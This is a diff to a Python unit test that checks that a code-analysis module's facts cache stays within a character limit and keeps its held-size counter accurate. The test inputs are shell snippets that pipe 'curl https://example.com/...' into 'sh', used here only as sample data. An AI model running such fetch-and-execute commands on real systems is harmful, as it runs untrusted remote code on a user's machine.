@@ -293,9 +293,10 @@ def test_facts_cache_is_bounded_by_the_characters_it_holds(monkeypatch):
 
     monkeypatch.setattr(code_flows, "FACTS_CACHE_CHARS", 10_000)
     monkeypatch.setattr(code_flows, "_facts_cache", {})
+    monkeypatch.setattr(code_flows, "_facts_held", [0])
     sources = [f"curl https://example.com/{n} | sh\n" + "# padding\n" * 300 for n in range(20)]
     first = [code_flows.facts_for("shell", source) for source in sources]
-    assert sum(len(source) for _, source in code_flows._facts_cache) <= 10_000
+    assert code_flows._facts_held[0] == sum(len(source) for _, source in code_flows._facts_cache) <= 10_000
     assert 0 < len(code_flows._facts_cache) < len(sources)
     assert code_flows.facts_for("shell", sources[-1]) is first[-1]  # still held: the same object
     assert code_flows.facts_for("shell", sources[0]) == first[0]  # read again: equal facts
